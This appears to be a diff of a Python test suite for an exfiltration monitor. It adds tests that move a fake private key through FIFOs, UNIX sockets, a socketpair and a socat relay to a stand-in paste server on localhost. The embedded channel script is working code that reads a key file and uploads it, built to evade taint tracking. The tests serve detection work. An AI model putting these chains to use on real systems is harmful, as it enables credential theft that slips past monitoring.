@@ -315,6 +315,16 @@ def test_staging_chain_of_four_hops_through_dev_shm_and_tmp(monitor, standin, fa
     assert_no_secret(monitor, key)
 
 
+def test_fifo_across_setsid(monitor, standin, fake_home, tmp_path):
+    # Writer and reader never share a session or a parent: only the FIFO joins them.
+    key = key_of(fake_home)
+    fifo = tmp_path / "ff"
+    shell = (f"mkfifo {fifo} && (setsid sh -c 'cat {key} > {fifo}' &) && "
+             + UPLOAD.format(fifo))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "fifo-setsid", shell)
+    assert_no_secret(monitor, key)
+
+
 def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_path):
     # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
     # and reaches curl on stdin through a here-string.
@@ -540,3 +550,119 @@ def test_loopback_tcp_relay(monitor):
     first = assert_same_channel(monitor, source.pid, relay.pid, "loopback_socket", 30000)
     second = assert_same_channel(monitor, relay.pid, sink.pid, "loopback_socket", 30000)
     assert first != second
+
+
+# --- Class: taint through sockets, to an uploader that never read the key -------------------
+# The reader and the uploader are other processes, in other sessions; the key's bytes reach the
+# uploader only through a UNIX socket (stream, datagram, an inherited socketpair) or a loopback
+# TCP relay (socat). The uploader posts what it received over TLS to the paste site.
+
+CHANNEL_TOOL = """
+import os, socket, ssl, sys, time
+
+def post(data):
+    c = ssl._create_unverified_context()
+    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
+    s.recv(100)
+
+def connect(family, kind, address):
+    for _ in range(200):
+        try:
+            s = socket.socket(family, kind)
+            s.connect(address)
+            return s
+        except OSError:
+            time.sleep(0.05)
+    raise SystemExit("no peer at %s" % (address,))
+
+mode, arg = sys.argv[1], sys.argv[2]
+if mode in ("unix-stream-up", "unix-dgram-up"):       # receive on a UNIX socket, upload
+    kind = socket.SOCK_STREAM if mode == "unix-stream-up" else socket.SOCK_DGRAM
+    s = socket.socket(socket.AF_UNIX, kind)
+    s.bind(arg)
+    if kind == socket.SOCK_STREAM:
+        s.listen(1)
+        s, _ = s.accept()
+    data = s.recv(65536)
+    while kind == socket.SOCK_STREAM:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    post(data)
+elif mode in ("unix-stream-send", "unix-dgram-send"):  # read the key, send it on a UNIX socket
+    kind = socket.SOCK_STREAM if mode == "unix-stream-send" else socket.SOCK_DGRAM
+    data = open(sys.argv[3], "rb").read()
+    s = connect(socket.AF_UNIX, kind, arg)
+    s.send(data)
+elif mode == "socketpair":                             # a child reads and sends, the parent uploads
+    a, b = socket.socketpair()
+    if os.fork() == 0:
+        a.close()
+        b.sendall(open(arg, "rb").read())
+        os._exit(0)
+    b.close()
+    data = b""
+    while True:
+        chunk = a.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    os.wait()
+    post(data)
+elif mode == "tcp-up":                                 # receive on loopback TCP, upload
+    srv = socket.socket()
+    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    srv.bind(("127.0.0.1", int(arg)))
+    srv.listen(1)
+    c, _ = srv.accept()
+    data = b""
+    while True:
+        chunk = c.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    post(data)
+elif mode == "tcp-send":                               # read the key, send it to a loopback port
+    data = open(sys.argv[3], "rb").read()
+    s = connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(arg)))
+    s.sendall(data)
+    s.close()
+"""
+
+
+def channel_tool(tmp_path):
+    tool = tmp_path / "channel.py"
+    tool.write_text(CHANNEL_TOOL.format(port=HTTPS_PORT, paste=PASTE))
+    return f"{paths.PYTHON} {tool}"
+
+
+@pytest.mark.parametrize("kind", ["stream", "dgram"])
+def test_unix_socket_to_an_uploader_in_another_session(monitor, standin, fake_home, tmp_path, kind):
+    key = key_of(fake_home)
+    tool, sock = channel_tool(tmp_path), tmp_path / f"{kind}.sock"
+    shell = (f"{tool} unix-{kind}-up {sock} & sleep 0.5; "
+             f"setsid {tool} unix-{kind}-send {sock} {key}; wait")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, f"unix-{kind}", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_socketpair_from_a_child_to_its_parent(monitor, standin, fake_home, tmp_path):
+    # The parent never read the key, and forked the child before the child did: only the
+    # inherited socketpair carries it back.
+    key = key_of(fake_home)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "socketpair",
+                    f"{channel_tool(tmp_path)} socketpair {key}")
+    assert_no_secret(monitor, key)
+
+
+def test_loopback_tcp_relay_through_socat(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    tool = channel_tool(tmp_path)
+    sink, relay = free_port(), free_port()
+    shell = (f"{tool} tcp-up {sink} & sleep 0.5; "
+             f"socat TCP-LISTEN:{relay},bind=127.0.0.1,reuseaddr TCP:127.0.0.1:{sink} & "
+             f"setsid {tool} tcp-send {relay} {key}; wait")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "loopback-relay", shell)
+    assert_no_secret(monitor, key)
